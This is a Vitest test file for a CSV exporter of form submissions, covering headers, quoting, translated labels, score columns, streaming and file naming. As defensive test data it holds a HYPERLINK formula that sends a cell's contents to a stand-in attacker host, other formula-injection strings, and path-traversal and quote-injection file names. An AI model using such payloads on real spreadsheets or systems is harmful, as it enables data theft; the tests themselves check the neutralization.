import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadCatalog } from '../../functions/domain/forms/catalog.ts';
import { formsDirWithHarbor } from '../support/harbor-pack.ts';
import { csvFileName, submissionsCsv, submissionsCsvChunks, submissionsCsvStream, type SubmissionRow } from '../../functions/domain/exports/submissions-csv.ts';

const root = join(import.meta.dirname, '..', '..');
const catalog = loadCatalog(join(root, 'form-schemas'));
const intake = catalog.form('demo', 'intake')!;
const examples = intake.schema.examples as Array<Record<string, unknown>>;

type Json = Record<string, unknown>;

/**
 * A strict RFC 4180 reader: every record ends with CRLF, a quote may only open a field or be doubled inside a quoted
 * one, and CR or LF outside quotes is an error. What it accepts, a spreadsheet reads the same way.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[at] === '"') {
        at += 1;
        for (;;) {
          if (at >= text.length) throw new Error('unterminated quoted field');
          if (text[at] === '"') {
            if (text[at + 1] !== '"') { at += 1; break; }
            at += 1;
          }
          field += text[at];
          at += 1;
        }
      } else {
        while (at < text.length && !',\r\n'.includes(text[at]!)) {
          if (text[at] === '"') throw new Error(`quote inside an unquoted field at ${at}`);
          field += text[at];
          at += 1;
        }
      }
      record.push(field);
      if (text[at] === ',') { at += 1; continue; }
      if (text.startsWith('\r\n', at)) { at += 2; break; }
      throw new Error(`expected a comma or CRLF at ${at}`);
    }
    records.push(record);
  }
  return records;
}

/** The file without its BOM, as records; fails when the BOM is missing. */
function read(csv: string): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return parseCsv(csv.slice(1));
}

/** Each data record as header → cell. */
function byHeader(csv: string): Array<Record<string, string>> {
  const [header, ...rows] = read(csv);
  for (const row of rows) expect(row).toHaveLength(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
}

function row(answers: unknown, overrides: Partial<SubmissionRow> = {}): SubmissionRow {
  return {
    caseId: '0b6f9c2e-1d2a-4b3c-8e4f-5a6b7c8d9e0f', submissionId: '5d3c1f3e-8c1a-4a4e-9d3b-2f1e0a9b8c7d',
    receivedAt: '2026-11-20T14:03:07.123Z', channel: 'public', answers, ...overrides,
  };
}

describe('submissions CSV: the demo intake', () => {
  const csv = submissionsCsv(intake.schema, [row(examples[0]), row(examples[1], { caseId: 'second-case', channel: 'staff' })]);

  it('starts with a UTF-8 BOM, once', () => {
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.indexOf('\uFEFF', 1)).toBe(-1);
  });

  it('heads the fixed columns, then every field by its title in form order, nested titles joined', () => {
    expect(read(csv)[0]).toEqual([
      'Case', 'Submission', 'Received', 'Channel',
      'Given name', 'Family name', 'Date of birth', 'Preferred language', 'Preferred language (label)',
      'How can we reach you? › Phone', 'How can we reach you? › Email', 'How can we reach you? › Is it safe for us to email you?',
      'How can we reach you? › Address',
      'Household › People in your household', 'Household › Monthly household income',
      'Do children or other people depend on you for care?', 'People who depend on you', 'What do you need help with?', 'What do you need help with? (label)',
      'Tell us about your situation', 'Documents you want to share', 'I agree that the agency may contact me about my request',
    ]);
  });

  it('writes one record per submission, answers as submitted', () => {
    const [first, second] = byHeader(csv);
    expect(first).toMatchObject({
      Case: '0b6f9c2e-1d2a-4b3c-8e4f-5a6b7c8d9e0f', Submission: '5d3c1f3e-8c1a-4a4e-9d3b-2f1e0a9b8c7d',
      Received: '2026-11-20T14:03:07.123Z', Channel: 'public',
      'Given name': 'Zoë', 'Family name': 'Núñez-Øberg', 'Date of birth': '1984-03-09', 'Preferred language': 'es',
      // A phone number typed as text starts with "+": a formula to a spreadsheet, so it is neutralized.
      'How can we reach you? › Phone': "'+1 555 0142",
      'How can we reach you? › Address': '12 Elm Court, Springfield',
      'How can we reach you? › Is it safe for us to email you?': 'true',
      'Household › People in your household': '3', 'Household › Monthly household income': '1850.5',
      'What do you need help with?': 'housing; food',
      // The codes stay for analysis; the label column beside them says them in words.
      'What do you need help with? (label)': 'Housing; Food',
      'Preferred language (label)': 'Español',
      'Tell us about your situation': examples[0]!.situation,
    });
    // An array of objects is its JSON, every entry and field intact.
    expect(JSON.parse(first!['People who depend on you']!)).toEqual(examples[0]!.dependents);
    expect(second).toMatchObject({
      Case: 'second-case', Channel: 'staff', 'Given name': 'Amal', 'Do children or other people depend on you for care?': 'false',
      'How can we reach you? › Email': '', 'Household › People in your household': '', 'People who depend on you': '',
    });
  });

  it('quotes a field with a comma and leaves a plain one bare', () => {
    expect(csv).toContain(',"12 Elm Court, Springfield",');
    expect(csv).toContain(',Zoë,');
  });

  it('titles the columns in the reader\'s language', () => {
    const fields = catalog.translations('demo', 'ar')!.forms!.intake!.fields!;
    const [header] = read(submissionsCsv(intake.schema, [], { labels: (key) => fields[key] }));
    expect(header!.slice(0, 5)).toEqual(['Case', 'Submission', 'Received', 'Channel', fields['/givenName']]);
    expect(header).toContain(`${fields['/contact']} › ${fields['/contact/phone']}`);
    expect(header).toContain('كيف يمكننا التواصل معك؟ › الهاتف');
  });

  it("gives each choice a label column in the reader's language beside its codes", () => {
    const fields = catalog.translations('demo', 'es')!.forms!.intake!.fields!;
    const [record] = byHeader(submissionsCsv(intake.schema, [row({ ...examples[0], needs: ['housing', 'mental-health', 'other'] })], { labels: (key) => fields[key] }));
    expect(record!['¿Con qué necesita ayuda?']).toBe('housing; mental-health; other');
    expect(record!['¿Con qué necesita ayuda? (label)']).toBe('Vivienda; Salud mental; Otra cosa');
  });
});

describe('submissions CSV: cells a spreadsheet must read as data', () => {
  const schema = {
    type: 'object',
    'x-caseforms': { order: ['amount', 'note'] },
    properties: {
      note: { title: 'Note', type: 'string' },
      amount: { title: 'Amount', type: 'number' },
      tags: { title: 'Tags', type: 'array', items: { type: 'string' } },
      values: { title: 'Values', type: 'array', items: { type: 'number' } },
      address: { title: 'Address', type: 'object', properties: { city: { title: 'City', type: 'string' }, zip: { type: 'string' } } },
      untitled: { type: 'string' },
      first: { title: 'Notes', type: 'string' },
      second: { title: 'Notes', type: 'string' },
      case: { title: 'Case', type: 'string' },
      extra: { title: 'Free-form', type: 'object' },
    },
  };
  const notes = [
    'He said "hi", then left', 'line 1\r\nline 2', 'a\nb', 'only\rCR', 'semi;colon',
    'أحتاج مساعدة في السكن، من فضلكم', '=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-2', '@SUM(A1:A9)',
    '\t=1+1', '\r=1+1', '＝1+1', 'a=1', ' =1',
  ];
  const rows = notes.map((note, index) => row({ note, amount: -2 - index / 4 }, { submissionId: `s${index}` }));
  const csv = submissionsCsv(schema, rows);
  let records: Array<Record<string, string>>;
  beforeAll(() => {
    records = byHeader(csv);
  });

  it('orders by x-caseforms.order, then schema order; untitled fields by pointer; equal titles told apart', () => {
    expect(read(csv)[0]).toEqual([
      'Case', 'Submission', 'Received', 'Channel', 'Amount', 'Note', 'Tags', 'Values', 'Address › City', '/address/zip', '/untitled',
      'Notes (/first)', 'Notes (/second)', 'Case (/case)', 'Free-form',
    ]);
  });

  it('round-trips quotes, commas, line breaks and Arabic text', () => {
    expect(records.slice(0, 6).map((record) => record.Note)).toEqual(notes.slice(0, 6));
    expect(csv).toContain('"He said ""hi"", then left"');
    expect(csv).toContain('"line 1\r\nline 2"');
    expect(csv).toContain('"semi;colon"');
  });

  it('neutralizes text that starts like a formula with an apostrophe, and quotes it', () => {
    expect(records.slice(6).map((record) => record.Note)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`, "'+1", "'-2", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "'＝1+1", 'a=1', ' =1',
    ]);
    expect(csv).toContain(`,"'+1",`);
    expect(csv).toContain(`,"'@SUM(A1:A9)",`);
    // Apart from the numbers, no cell of the file starts like a formula.
    const cells = records.flatMap((record) => Object.entries(record).filter(([header]) => header !== 'Amount').map(([, cell]) => cell));
    expect(cells.filter((cell) => /^[=+\-@\t\r＝]/u.test(cell))).toEqual([]);
  });

  it('leaves numbers that were JSON numbers alone, negative ones included', () => {
    expect(records.slice(0, 4).map((record) => record.Amount)).toEqual(['-2', '-2.25', '-2.5', '-2.75']);
    expect(csv).toContain(',public,-2,');
    // A string that looks like a negative number is still text a person typed.
    expect(records[8]!.Note).toBe("'-2");
  });

  it('joins arrays of scalars with "; " and neutralizes the joined text like any text', () => {
    const [record] = byHeader(submissionsCsv(schema, [row({ tags: ['=1+1', 'b'], values: [-1, 2.5] })]));
    expect(record!.Tags).toBe("'=1+1; b");
    // Joined numbers are text, no longer a number a spreadsheet could sum: they are treated as text.
    expect(record!.Values).toBe("'-1; 2.5");
  });

  it('writes nested fields in their own columns, free-form objects as JSON, and nothing for what is missing', () => {
    const [record] = byHeader(submissionsCsv(schema, [row({ address: { city: 'Springfield', zip: '-0142' }, extra: { a: [1, { b: '=x' }] }, untitled: null })]));
    expect(record).toMatchObject({ 'Address › City': 'Springfield', '/address/zip': "'-0142", '/untitled': '', Note: '', Tags: '' });
    expect(JSON.parse(record!['Free-form']!)).toEqual({ a: [1, { b: '=x' }] });
  });

  it('exports nothing but the fixed columns for answers that are not an object', () => {
    const [record] = byHeader(submissionsCsv(schema, [row('not an object')]));
    expect(Object.values(record!).slice(4).every((cell) => cell === '')).toBe(true);
  });
});

describe('submissions CSV: every demo form', () => {
  for (const form of catalog.pack('demo')!.forms.values()) {
    it(`${form.formId}: every example parses and every answered value is in a cell`, () => {
      const answers = form.schema.examples as Json[];
      const csv = submissionsCsv(form.schema, answers.map((entry) => row(entry)));
      const [header, ...records] = read(csv);
      expect(records).toHaveLength(answers.length);
      expect(new Set(header).size).toBe(header!.length);
      records.forEach((record, index) => {
        expect(record).toHaveLength(header!.length);
        const text = record.join('\n');
        const scalars = (value: unknown): unknown[] =>
          typeof value === 'object' && value !== null ? Object.values(value).flatMap(scalars) : [value];
        for (const value of scalars(answers[index])) expect(text).toContain(String(value));
      });
    });
  }
});

describe('submissions CSV: an instrument\'s scores', () => {
  const harbor = loadCatalog(formsDirWithHarbor());

  it('puts each score the form declares, and its band, before the answers, as the submission stored them', () => {
    const phq9 = catalog.form('demo', 'phq-9')!;
    const answers = { q1: 3, q2: 3, q3: 2, q4: 2, q5: 1, q6: 1, q7: 1, q8: 0, q9: 1 };
    const [header] = read(submissionsCsv(phq9.schema, []));
    expect(header!.slice(4, 6)).toEqual(['PHQ-9 total (score)', 'PHQ-9 total (band)']);
    const [scored, unscored] = byHeader(submissionsCsv(phq9.schema, [row(answers, { scores: phq9.score(answers).scores }), row({ q1: 1 })]));
    expect(scored).toMatchObject({ 'PHQ-9 total (score)': '14', 'PHQ-9 total (band)': 'Moderate' });
    expect(unscored).toMatchObject({ 'PHQ-9 total (score)': '', 'PHQ-9 total (band)': '' });
  });

  it('does the same for Harbor\'s own scale, and adds no score columns to a form that scores nothing', () => {
    const housing = harbor.form('harbor', 'housing-stability')!;
    const answers = { rentLate: 2, utilitiesOff: 1, overcrowded: 2, fearOfLosingHome: 3 };
    const [record] = byHeader(submissionsCsv(housing.schema, [row(answers, { scores: housing.score(answers).scores })]));
    expect(record).toMatchObject({ 'Housing stability score (score)': '8', 'Housing stability score (band)': 'Unstable' });
    expect(read(submissionsCsv(intake.schema, []))[0]!.join(',')).not.toContain('(score)');
  });

  it('streams the same file from rows that arrive asynchronously', async () => {
    const phq9 = catalog.form('demo', 'phq-9')!;
    const rows = [row({ q1: 1 }), row({ q1: 2 }, { caseId: 'other' })];
    async function* arriving() { yield* rows; }
    const chunks: string[] = [];
    for await (const chunk of submissionsCsvStream(phq9.schema, arriving())) chunks.push(chunk);
    expect(chunks.join('')).toBe(submissionsCsv(phq9.schema, rows));
  });
});

describe('submissions CSV: chunks and the file name', () => {
  it('streams the same file one record at a time, header first', () => {
    const rows = examples.map((entry) => row(entry));
    const chunks = [...submissionsCsvChunks(intake.schema, rows)];
    expect(chunks).toHaveLength(rows.length + 1);
    expect(chunks[0]!.startsWith('\uFEFFCase,Submission,Received,Channel,')).toBe(true);
    expect(chunks.join('')).toBe(submissionsCsv(intake.schema, rows));
  });

  it('names the file by agency, form and version, and refuses anything else', () => {
    expect(csvFileName('demo', 'intake', intake.version)).toBe(`demo-intake-v${intake.version}.csv`);
    expect(csvFileName('demo', 'phq-9', '0123456789abcdef')).toBe('demo-phq-9-v0123456789abcdef.csv');
    expect(() => csvFileName('demo', '../intake', intake.version)).toThrow(RangeError);
    expect(() => csvFileName('Demo', 'intake', intake.version)).toThrow(RangeError);
    expect(() => csvFileName('demo', 'intake', '3')).toThrow(RangeError);
    expect(() => csvFileName('demo', 'intake', `${intake.version}"; x`)).toThrow(RangeError);
  });
});
